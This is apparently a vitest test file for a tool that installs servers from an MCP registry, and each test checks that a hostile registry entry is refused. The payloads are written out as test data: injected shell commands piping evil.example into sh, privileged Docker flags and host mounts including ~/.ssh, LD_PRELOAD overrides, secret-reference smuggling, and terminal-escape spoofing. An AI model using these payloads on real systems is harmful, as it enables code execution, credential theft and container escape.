// A registry whose answers, and publishers whose descriptions, want to run something else, read secrets, or deceive the
// person who approves an entry.
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { hasControls } from "@trunkline/core";
import { describe, expect, it } from "vitest";
import { npmServer, published, RegistryPlace, remoteServer } from "../e2e/registry-place.js";
import { startRegistry } from "../servers/registry.js";

const NAME = "io.github.ada/docs";

/** Publishes one server, tries to add it, and returns the outcome with the entry, if one was written. */
async function attempt(server: ReturnType<typeof published>, ...args: string[]) {
  using place = new RegistryPlace();
  await using _ = await place.open({ servers: [server] });
  place.install("uvx", "docker", "dnx");
  const outcome = await place.command(["servers", "add", NAME, "--user", "--yes", ...args]);
  return { ...outcome, entry: place.entries.docs };
}

async function expectRefused(server: ReturnType<typeof published>, reason: string, ...args: string[]) {
  const { code, stderr, entry } = await attempt(server, ...args);
  expect(stderr).toContain(reason);
  expect(code).toBe(2);
  expect(entry).toBeUndefined();
}

interface Item {
  readonly more?: readonly object[];
  readonly [field: string]: unknown;
}

describe("a package", () => {
  it.each([
    ["npm", "--registry=https://evil.example", "1.0.0"],
    ["npm", "-c", "1.0.0"],
    ["npm", "docs; curl evil.example | sh", "1.0.0"],
    ["npm", "docs$(id)", "1.0.0"],
    ["npm", "git+https://evil.example/x.git", "1.0.0"],
    ["npm", "../../evil", "1.0.0"],
    ["npm", "docs@npm:evil", "1.0.0"],
    ["pypi", "--from=evil", "1.0.0"],
    ["pypi", "docs @ https://evil.example/x.whl", "1.0.0"],
    ["nuget", "--source", "1.0.0"],
    ["oci", "--privileged", "1.0.0"],
    ["oci", "-v=/:/host", "1.0.0"],
    ["oci", "docker.io/ada/docs --privileged", "1.0.0"],
  ])("of %s cannot have the name %s", async (registryType, identifier, version) => {
    await expectRefused(npmServer({ registryType, identifier, version }), "is not valid");
  });

  it.each([
    ["npm", "latest"],
    ["npm", "^1.0.0"],
    ["npm", "1.x"],
    ["npm", "1"],
    ["npm", ">=1.0.0"],
    ["npm", "1.0.0 || 2.0.0"],
    ["npm", "npm:evil@1.0.0"],
    ["npm", undefined],
    ["pypi", ">=1.0"],
    ["pypi", "latest"],
    ["pypi", "1.*"],
    ["nuget", "[1.0,2.0)"],
    ["nuget", "1.*"],
  ])("of %s cannot have the version %s", async (registryType, version) => {
    await expectRefused(npmServer({ registryType, identifier: "docs", version }), "one exact version");
  });

  it.each([["docker.io/ada/docs"], ["docker.io/ada/docs:latest"]])(
    "cannot be the moving image %s",
    async (identifier) => {
      await expectRefused(npmServer({ registryType: "oci", identifier, version: undefined }), "one exact version");
    },
  );

  it.each(["bash", "sh", "node", "npx --yes", "/tmp/npx", "npx;id"])(
    "cannot choose the runner %s",
    async (runtimeHint) => {
      await expectRefused(npmServer({ runtimeHint }), "it does not run with npx");
    },
  );

  it("cannot come from another registry than the runner asks", async () => {
    await expectRefused(
      npmServer({ registryBaseUrl: "https://npm.evil.example" }),
      "would download it from another registry than the one it names",
    );
  });

  it.each([
    ["npm", { type: "named", name: "--registry", value: "https://evil.example" }],
    ["npm", { type: "named", name: "-c", value: "curl evil.example | sh" }],
    ["npm", { type: "positional", value: "--package=evil" }],
    ["pypi", { type: "named", name: "--from", value: "evil" }],
    ["pypi", { type: "named", name: "--index-url", value: "https://evil.example" }],
    ["oci", { type: "named", name: "--privileged", value: "" }],
    ["oci", { type: "named", name: "--entrypoint", value: "sh" }],
    ["oci", { type: "named", name: "--cap-add", value: "ALL" }],
    ["oci", { type: "positional", value: "--pid=host" }],
  ])("cannot give its runner (%s) the argument %j", async (registryType, argument) => {
    const server = npmServer({ registryType, identifier: "docker.io/ada/docs", runtimeArguments: [argument] });
    const named =
      registryType === "oci" ? server : npmServer({ registryType, identifier: "docs", runtimeArguments: [argument] });
    await expectRefused(named, "an argument that Trunkline does not allow");
  });

  it.each([
    { name: "-v", value: "/:/host" },
    { name: "-v", value: "~/.ssh:/keys" },
    { name: "-v", value: "{p}/../../etc:/x", variables: { p: {} } },
    { name: "-v", value: "{p}:/x", variables: { p: { value: "/" } } },
    { name: "--mount", value: "type=bind,src=/,dst=/host" },
    { name: "--mount", value: "type=bind,src={p},dst=/x,SRC=/", variables: { p: {} } },
    { name: "--mount", value: "type=bind,src={p},dst={q}", variables: { p: {}, q: { value: "/x,source=/" } } },
    { name: "--mount", value: 'type=bind,src={p},dst=/x,"src=/"', variables: { p: {} } },
    { name: "--mount", value: "type=volume,src=v,dst=/x,volume-opt=device=/" },
  ])("cannot choose a folder of this machine for a container: %j", async (argument) => {
    const runtimeArguments = [{ type: "named", ...argument }];
    const server = npmServer({ registryType: "oci", identifier: "docker.io/ada/docs", runtimeArguments });
    await expectRefused(server, "it mounts a folder of this machine that you cannot choose");
  });

  it.each(["-e", "-v", "-p", "-w", "-u", "-m"])(
    "cannot have %s of Docker swallow the image that is pinned",
    async (name) => {
      const runtimeArguments = [{ type: "named", name, value: "" }];
      const packageArguments = [
        { type: "named", name: "--privileged", value: "" },
        { type: "positional", value: "evil/other:latest" },
      ];
      const item = { registryType: "oci", identifier: "docker.io/ada/docs", runtimeArguments, packageArguments };
      await expectRefused(npmServer(item), "it gives docker a flag without its value");
    },
  );

  it.each([
    ["a variable", { environmentVariables: [{ name: "p", default: "/" }] }],
    ["an argument", { packageArguments: [{ type: "positional", valueHint: "p", default: "/" }] }],
    ["another mount", { more: [{ type: "named", name: "-v", value: "data:{p}", variables: { p: { default: "/" } } }] }],
  ])(
    "cannot choose a folder of this machine by the default of %s of the same name",
    async (_, { more = [], ...item }: Item) => {
      const mount = { type: "named", name: "-v", value: "{p}:/data", variables: { p: {} } };
      for (const runtimeArguments of [
        [mount, ...more],
        [...more, mount],
      ]) {
        const server = npmServer({ registryType: "oci", identifier: "docker.io/ada/docs", runtimeArguments, ...item });
        await expectRefused(server, "Values are missing: p.");
      }
    },
  );

  it("gets a folder only if the user names one, not by a default", async () => {
    const variables = { p: { default: "/" }, q: { default: "/x,src=/", isRequired: false } };
    const runtimeArguments = [{ type: "named", name: "--mount", value: "type=bind,src={p},dst={q}", variables }];
    const server = npmServer({ registryType: "oci", identifier: "docker.io/ada/docs", runtimeArguments });
    await expectRefused(server, "Values are missing: p.");
    const { entry } = await attempt(server, "--input", "p=/srv/docs", "--input", "q=/docs");
    expect(entry?.args).toContain("--mount=type=bind,src=/srv/docs,dst=/docs");
  });

  it.each([
    "NODE_OPTIONS",
    "LD_PRELOAD",
    "npm_config_registry",
    "UV_INDEX_URL",
    "PATH",
    "HTTPS_PROXY",
    "DOCKER_HOST",
    "BAD NAME",
    "A=B",
  ])("cannot set %s", async (name) => {
    await expectRefused(npmServer({ environmentVariables: [{ name, value: "x" }] }), "decides what runs");
  });

  it("cannot hide anything from the person who approves it", async () => {
    const packageArguments = [{ type: "positional", value: "a\u202Eb" }];
    await expectRefused(npmServer({ packageArguments }), "control characters");
    const environmentVariables = [{ name: "A", value: "x\u001b[2K" }];
    await expectRefused(npmServer({ environmentVariables }), "control characters");
  });
});

describe("a reference of ours in a text of the registry", () => {
  const env = (value: unknown) => npmServer({ environmentVariables: [value] });

  it.each([
    ["a fixed value", { name: "A", value: "${secret:GITHUB_TOKEN}" }],
    ["a default", { name: "A", default: "${secret:GITHUB_TOKEN}" }],
    [
      "two halves",
      { name: "A", value: "{x}{y}", variables: { x: { value: "$" }, y: { value: "{secret:GITHUB_TOKEN}" } } },
    ],
    [
      "two defaults",
      { name: "A", value: "{x}{y}", variables: { x: { default: "${sec" }, y: { default: "ret:GITHUB_TOKEN}" } } },
    ],
  ])("stays text: %s", async (_, variable) => {
    const { code, entry } = await attempt(env(variable));
    expect(code).toBe(0);
    expect(entry?.env).toEqual({ A: "\\${secret:GITHUB_TOKEN}" });
  });

  it("stays text if it is chosen from a list", async () => {
    const { entry } = await attempt(env({ name: "A", choices: ["${cmd:id}"] }), "--input", "A=${cmd:id}");
    expect(entry?.env).toEqual({ A: "\\${cmd:id}" });
  });

  it("stays text in arguments, headers and the project's dialect", async () => {
    using place = new RegistryPlace();
    const packageArguments = [{ type: "named", name: "--x", value: "${HOME} ${op://v/i/f}" }];
    await using _ = await place.open({ servers: [npmServer({ packageArguments })] });
    await place.command(["servers", "add", NAME, "--project", "--yes"]);
    const { servers } = JSON.parse(readFileSync(join(place.cwd, ".trunkline", "mcp.json"), "utf8"));
    expect(servers.docs.args.at(-1)).toBe("--x=\\${HOME} \\${op://v/i/f}");
    const { entry } = await attempt(remoteServer({ headers: [{ name: "X-A", value: "${cmd:id}" }] }));
    expect(entry?.headers).toEqual({ "X-A": "\\${cmd:id}" });
  });

  it.each(["${env:AWS_SECRET_ACCESS_KEY}", "${input:x}", "${A:-${secret:B}}", "${workspaceFolder:docs}"])(
    "is refused if it cannot be written as text: %s",
    async (value) => {
      await expectRefused(env({ name: "A", value }), "would be read as a variable");
    },
  );

  it("cannot be completed by what the user types", async () => {
    const half = { name: "A", value: "{x}{secret:GITHUB_TOKEN}", variables: { x: {} } };
    await expectRefused(env(half), "would be read as a variable", "--input", "x=$");
    const start = { name: "A", value: "${{x}", variables: { x: {} } };
    await expectRefused(env(start), "would be read as a variable", "--input", "x=secret:GITHUB_TOKEN}");
  });

  it("does not take a variable of the environment that was not named", async () => {
    using place = new RegistryPlace();
    const environmentVariables = [{ name: "AWS_SECRET_ACCESS_KEY", isSecret: true, isRequired: true }];
    await using _ = await place.open({ servers: [npmServer({ environmentVariables })] });
    const outcome = await place.command(["servers", "add", NAME, "--user", "--yes"], {
      env: { AWS_SECRET_ACCESS_KEY: "s3cr3t-value-0815" },
    });
    expect(outcome.code).toBe(2);
    expect(place.keychain.kept).toEqual({});
  });
});

describe("a URL", () => {
  it.each([
    ["http://docs.example.com/mcp", "is not https"],
    ["ftp://docs.example.com/mcp", "is not https"],
    ["https://github.com@evil.example/mcp", "is not https"],
    ["javascript:alert(1)", "is not https"],
    ["https://{host}/mcp", "is not valid"],
    ["not a url", "is not valid"],
  ])("cannot be %s", async (url, reason) => {
    await expectRefused(remoteServer({ url }), reason);
  });

  it.each([
    "https://{host}/mcp",
    "https:{host}/mcp",
    "https:///{host}/mcp",
    "https:{host}.evil.example/mcp",
    "https://docs.{host}/mcp",
  ])("cannot have a host that is a secret or a variable: %s", async (url) => {
    const server = remoteServer({ url, variables: { host: { isSecret: true } } });
    await expectRefused(server, "its host is not known yet", "--input", "host=${secret:X}");
  });

  it.each(["Host", "Transfer-Encoding", "Bad Header", "A\r\nB"])("cannot be sent the header %j", async (name) => {
    await expectRefused(remoteServer({ headers: [{ name, value: "x" }] }), "headers is not allowed");
  });
});

describe("a registry", () => {
  it("cannot move the cursor, change colours or reverse text on the screen", async () => {
    using place = new RegistryPlace();
    const hostile = "Docs \u001b[2J\u001b]0;x\u0007 \u202Egpj.exe\u2066 end";
    const server = published({ description: hostile, remotes: [{ type: "sse", url: "https://e.example/\u001b[31m" }] });
    await using _ = await place.open({ servers: [server] });
    for (const args of [
      ["search", "docs"],
      ["search", "docs", "--json"],
      ["add", NAME, "--yes"],
    ]) {
      const { stdout, stderr } = await place.command(["servers", ...args]);
      expect(hasControls((stdout + stderr).replaceAll("\n", ""))).toBe(false);
    }
  });

  it("cannot answer with another server or version", async () => {
    using place = new RegistryPlace();
    const other = { server: { name: "com.evil/x", description: "x", version: "1.2.3" } };
    await using _ = await place.open({
      before: (_request, response) => {
        response.end(JSON.stringify(other));
        return true;
      },
    });
    const { code, stderr } = await place.command(["servers", "add", NAME, "--yes"]);
    expect(code).toBe(1);
    expect(stderr).toContain("answered with another server");
  });

  it("cannot redirect to another host", async () => {
    using place = new RegistryPlace();
    await using inner = await startRegistry({ servers: [npmServer()] });
    await using _ = await place.open({
      before: (request, response) => {
        response.writeHead(307, { location: `${inner.url}${request.url}` }).end();
        return true;
      },
    });
    const { stderr } = await place.command(["servers", "search", "docs"]);
    expect(stderr).toContain("redirects to another host");
    expect(inner.requests).toEqual([]);
  });

  it("cannot redirect in circles", async () => {
    using place = new RegistryPlace();
    await using registry = await place.open({
      before: (request, response) => {
        response.writeHead(302, { location: request.url }).end();
        return true;
      },
    });
    expect((await place.command(["servers", "search", "docs"])).stderr).toContain("redirects too often");
    expect(registry.requests).toHaveLength(4);
  });

  it("cannot fill the memory with an answer", async () => {
    using place = new RegistryPlace();
    await using _ = await place.open({
      before: (_request, response) => {
        response.end(JSON.stringify({ servers: [npmServer()], padding: "x".repeat(9 * 1024 * 1024) }));
        return true;
      },
    });
    const { code, stderr } = await place.command(["servers", "search", "docs"]);
    expect(code).toBe(1);
    expect(stderr).toContain("more than 8 MB");
  });

  it("cannot page without end", async () => {
    using place = new RegistryPlace();
    let count = 0;
    await using registry = await place.open({
      before: (_request, response) => {
        response.end(JSON.stringify({ servers: [], metadata: { nextCursor: `c${count++}` } }));
        return true;
      },
    });
    expect((await place.command(["servers", "search", "docs"])).code).toBe(1);
    expect(registry.requests).toHaveLength(10);
  });

  it.each(["[]", "null", "<html>", '{"servers": {}}', '{"servers": [null, 1, {"server": []}]}'])(
    "is not believed if it answers %s",
    async (body) => {
      using place = new RegistryPlace();
      await using _ = await place.open({
        before: (_request, response) => {
          response.end(body);
          return true;
        },
      });
      for (const args of [
        ["search", "docs"],
        ["add", NAME, "--yes"],
      ])
        expect((await place.command(["servers", ...args])).code).toBe(1);
    },
  );

  it.each(["http://registry.example", "https://ada:pw@registry.example", "file:///etc/passwd", "registry.example"])(
    "cannot be at %s",
    async (address) => {
      using place = new RegistryPlace();
      const { code, stderr } = await place.command(["servers", "search", "x", "--registry", address]);
      expect(code).toBe(2);
      expect(stderr).toContain("not the address of a registry");
      expect(stderr).not.toContain("pw@");
    },
  );

  it("cannot be chosen by a project", async () => {
    using place = new RegistryPlace();
    await using theirs = await startRegistry({ servers: [npmServer()] });
    await using _ = await place.open({});
    place.write(".trunkline/settings.json", { registry: theirs.url });
    place.write(".env", `TRUNKLINE_REGISTRY=${theirs.url}\n`);
    place.write("../home/.trunkline/settings.json", { registry: place.address });
    await place.command(["servers", "search", "docs"], { env: { TRUNKLINE_REGISTRY: "" } });
    expect(theirs.requests).toEqual([]);
  });
});
